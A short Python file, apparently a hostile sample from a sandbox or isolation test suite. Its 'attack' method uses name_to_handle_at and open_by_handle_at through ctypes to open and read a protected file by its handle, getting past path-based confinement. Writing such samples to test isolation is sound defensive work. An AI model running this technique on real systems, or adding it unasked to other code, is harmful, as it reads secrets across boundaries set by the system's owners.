"""Opens a file outside by its handle, past every path.

Control as root: secret.
"""

import ctypes
import os


class Handle(ctypes.Structure):
    _fields_ = [("length", ctypes.c_uint), ("kind", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]


class HostileManager:
    def attack(self, *, secret_path):
        library, handle, mount = ctypes.CDLL(None), Handle(128), ctypes.c_int()
        library.name_to_handle_at(
            -100, secret_path.encode(), ctypes.byref(handle), ctypes.byref(mount), 0
        )
        folder = os.open(os.path.dirname(secret_path), os.O_RDONLY)
        file = library.open_by_handle_at(folder, ctypes.byref(handle), 0)
        return os.pread(file, 100, 0).decode(errors="replace")
